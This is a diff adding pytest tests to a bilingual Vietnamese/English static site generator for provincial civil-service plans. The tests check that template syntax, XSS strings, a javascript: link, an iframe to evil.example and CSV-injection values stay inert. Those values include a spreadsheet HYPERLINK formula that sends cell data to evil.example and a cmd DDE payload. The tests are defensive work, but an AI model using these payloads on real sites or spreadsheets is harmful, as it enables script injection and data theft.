@@ -3,16 +3,22 @@ never a write outside the output folder."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import signal
 import subprocess
 import sys
 import time
 import unicodedata
+import xml.etree.ElementTree as ET
 from dataclasses import replace
 from pathlib import Path
 
+import icalendar
 import pytest
+from bs4 import BeautifulSoup
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -59,6 +65,137 @@ def test_hostile_task_is_inert(site):
     plan = (result.out / "vi/plans/dt-83-2014/index.html").read_text(encoding="utf-8")
     assert "<script>alert('t')</script>" not in plan
     assert "&lt;script&gt;" in plan
+
+
+JINJA = "{{ 7*7 }} {% raw %}r{% endraw %} {# note #} {{ config }}"
+
+
+def test_jinja_syntax_in_titles_and_bodies_is_shown_as_written(site):
+    """Content is data, never a template: Jinja syntax in a title or a Markdown body (of a task,
+    its update, a plan) appears literally, not evaluated (no 49, no config, raw and comments kept)."""
+    files = {
+        "tasks/dt-83-2014/01-cong-khai.md": BASE["tasks/dt-83-2014/01-cong-khai.md"].replace(
+            "title: Công khai danh sách hộ nghèo", f"title: 'Công khai {JINJA}'").replace(
+            "Niêm yết công khai.", f"Niêm yết {JINJA}\n\n        - mục {{{{ 6*7 }}}}"),
+        "tasks/dt-83-2014/01-cong-khai.en.md": f"---\ntitle: 'Publish {JINJA}'\nsection: II.1\n---\nPost {JINJA}\n",
+        "updates/dt-83-2014/a.md": f"---\ntask: dt-83-2014/01-cong-khai\ndate: 2015-01-10\nstatus: in-progress\n"
+                                   f"source: 'Báo cáo {JINJA}'\n---\nGhi chú {JINJA}\n",
+        "plans/dt-83-2014.md": BASE["plans/dt-83-2014.md"].replace(
+            "title: Kế hoạch nâng cao chất lượng công vụ", f"title: 'Kế hoạch {JINJA}'").replace(
+            "short_title: Công vụ Đồng Tháp", f"short_title: 'Công vụ {JINJA}'").replace("Nội dung kế hoạch.", JINJA),
+        "plans/dt-83-2014.en.md": BASE["plans/dt-83-2014.en.md"].replace(
+            "title: Plan to improve the civil service", f"title: 'Plan {JINJA}'").replace(
+            "short_title: Dong Thap civil service", f"short_title: 'Civil service {JINJA}'").replace("Body of the plan.", JINJA),
+    }
+    result = site(files)
+    assert result.code == 0, result.stderr
+    for lang in ("vi", "en"):
+        for path in (f"{lang}/tasks/dt-83-2014/01-cong-khai/", f"{lang}/plans/dt-83-2014/"):
+            soup = result.html(path)
+            for element in [soup.title, soup.h1, *soup.select(".prose, ol.timeline > li")]:
+                text = element.get_text()
+                assert "{{ 7*7 }}" in text and "{% raw %}r{% endraw %}" in text and "{# note #}" in text, (path, text)
+                assert "49" not in text and "42" not in text and "Config" not in text and "<Config" not in text, (path, text)
+        task = result.html(f"{lang}/tasks/dt-83-2014/01-cong-khai/")
+        if lang == "vi":
+            assert "{{ 6*7 }}" in task.select_one(".prose li").get_text()
+        assert "Báo cáo {{ 7*7 }}" in task.select_one("ol.timeline").get_text()
+        listed = result.html(f"{lang}/plans/").select_one("main").get_text()
+        assert "{{ 7*7 }}" in listed and "49" not in listed
+
+
+EVIL = "<script>alert(1)</script>\"><img src=x onerror=alert(2)> & <!-- c -->"
+
+
+def test_hostile_text_is_inert_in_feeds_downloads_and_the_search_index(site):
+    """A hostile title, progress note and source reach every kind of output as the text they
+    are: escaped in the Atom feeds (still well-formed XML, no element or handler from content),
+    the iCalendar file, each CSV and JSON download and the search index's documents (which
+    assets/search.js shows as text), and in no page as markup."""
+    title = EVIL.replace("'", "''")
+    files = {
+        "plans/dt-2026.md": BASE["plans/dt-83-2014.md"].replace("date_issued: 2014-06-11", "date_issued: 2026-01-10")
+            .replace("period_from: 2014", "period_from: 2026").replace("period_to: 2015", "period_to: 2027")
+            .replace("title: Kế hoạch nâng cao chất lượng công vụ", f"title: '{title}'"),
+        "plans/dt-2026.en.md": BASE["plans/dt-83-2014.en.md"].replace("title: Plan to improve the civil service",
+                                                                      f"title: '{title}'"),
+        "tasks/dt-2026/99-evil.md": f"---\nplan: dt-2026\ntitle: '{title}'\npillars: [papi-2-2]\nlead: [so-noi-vu]\n"
+                                    f"deadline: 2026-12-15\nsection: '{title}'\n---\n{EVIL}\n",
+        # no English file: the English outputs show the Vietnamese text, marked as such
+        "updates/dt-2026/01.md": f"---\ntask: dt-2026/99-evil\ndate: 2026-10-01\nstatus: in-progress\n"
+                                 f"source: '{title}'\nsource_url: https://example.org/r?a=1&b=2\n---\n{EVIL}\n\n"
+                                 f"[x](javascript:alert(3)) <iframe src=https://evil.example></iframe>\n",
+    }
+    result = site(files)
+    assert result.code == 0, result.stderr
+    out = result.out
+    for lang in ("vi", "en"):
+        # Atom: well-formed, the text as written, nothing from content as an element or attribute
+        feeds = sorted((out / "feeds" / lang).rglob("*.xml"))
+        assert len(feeds) == 2
+        for feed in feeds:
+            root = ET.fromstring(feed.read_bytes())
+            entries = root.findall("{http://www.w3.org/2005/Atom}entry")
+            assert len(entries) == 1, feed
+            assert EVIL in "".join(entries[0].find("{http://www.w3.org/2005/Atom}title").itertext())
+            content = "".join(entries[0].find("{http://www.w3.org/2005/Atom}content").itertext())
+            assert content.count(EVIL) == 2, content   # the note and the source
+            names = {el.tag.rsplit("}", 1)[-1] for el in root.iter()}
+            assert not names & {"script", "img", "iframe"}, names
+            attributes = [(el.tag, a, v) for el in root.iter() for a, v in el.attrib.items()]
+            assert not [a for a in attributes if a[1].lower().startswith("on") or a[2].lower().startswith("javascript:")]
+        # iCalendar
+        calendar = icalendar.Calendar.from_ical((out / f"feeds/{lang}/deadlines/dong-thap.ics").read_bytes())
+        assert [str(e["SUMMARY"]).split(": ", 1)[1] for e in calendar.walk("VEVENT")] == [EVIL]
+        # CSV and JSON: the same text, neither run nor HTML-escaped (which would show &lt; to every reader)
+        for name in ("tasks", "updates", "plans", "plans/dt-2026"):
+            raw = (out / f"data/{lang}/{name}.csv").read_text(encoding="utf-8-sig")
+            cells = {cell for row in csv.reader(io.StringIO(raw)) for cell in row}
+            assert EVIL in cells, (lang, name)
+            assert "&lt;" not in raw, (lang, name)
+        for name in ("tasks", "updates", "plans"):
+            rows = json.loads((out / f"data/{lang}/{name}.json").read_text(encoding="utf-8"))["rows"]
+            assert EVIL in {v for row in rows for v in row.values() if isinstance(v, str)}, (lang, name)
+            assert "&lt;" not in json.dumps(rows, ensure_ascii=False), (lang, name)
+        # the search index: the title as a string (search.js builds results with textContent)
+        docs = [d for f in sorted((out / f"search/{lang}/docs").glob("*.json"))
+                for d in json.loads(f.read_text(encoding="utf-8"))]
+        assert [d[0] for d in docs].count(EVIL) >= 3, docs   # the plan, the task, its update
+        # every page: no script but the search page's, no handler, no frame
+        for page in out.rglob("*.html"):
+            soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+            assert [s.get("src", "").rsplit("/", 1)[-1] for s in soup.find_all("script")] in ([], ["search.js"]), page
+            assert not soup.find_all(["iframe", "img"]), page
+            assert not [t for t in soup.find_all(True) if any(a.lower().startswith("on") for a in t.attrs)], page
+        task = result.html(f"{lang}/tasks/dt-2026/99-evil/")
+        assert EVIL in task.h1.get_text() and EVIL in task.select_one(".prose").get_text()
+    search_js = (ROOT / "assets/search.js").read_text(encoding="utf-8")
+    assert not [w for w in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(") if w in search_js]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Xem")'
+
+
+def test_csv_cells_are_never_spreadsheet_formulas(site):
+    """A title or name beginning with =, +, - or @ would run as a formula in a spreadsheet
+    (CSV injection): the CSV gives it a leading apostrophe, the JSON and the pages keep it."""
+    quoted = FORMULA.replace("'", "''")
+    result = site({
+        "tasks/dt-83-2014/01-cong-khai.md": BASE["tasks/dt-83-2014/01-cong-khai.md"].replace(
+            "title: Công khai danh sách hộ nghèo", f"title: '{quoted}'"),
+        "tasks/dt-83-2014/01-cong-khai.en.md": "---\ntitle: \"+cmd|' /C calc'!A0\"\nsection: II.1\n---\n",
+        "agencies/so-noi-vu.md": "---\nname: '@SUM(1+1)*cmd'\nlevel: province\n---\n",
+        "agencies/so-noi-vu.en.md": "---\nname: -2+3\n---\n",
+    })
+    assert result.code == 0, result.stderr
+    expected = {"vi": (FORMULA, "@SUM(1+1)*cmd"), "en": ("+cmd|' /C calc'!A0", "-2+3")}
+    for lang, (title, agency) in expected.items():
+        for name in ("tasks", f"plans/dt-83-2014"):
+            rows = list(csv.DictReader(io.StringIO((result.out / f"data/{lang}/{name}.csv").read_text(encoding="utf-8-sig"))))
+            assert [(r["title"], r["lead_names"]) for r in rows] == [("'" + title, "'" + agency)], (lang, name)
+        data = json.loads((result.out / f"data/{lang}/tasks.json").read_text(encoding="utf-8"))["rows"]
+        assert [(r["title"], [a["name"] for a in r["lead"]]) for r in data] == [(title, [agency])]
+        assert result.html(f"{lang}/tasks/dt-83-2014/01-cong-khai/").h1.get_text(strip=True) == title
 
 
 @pytest.mark.parametrize("slug, message", [
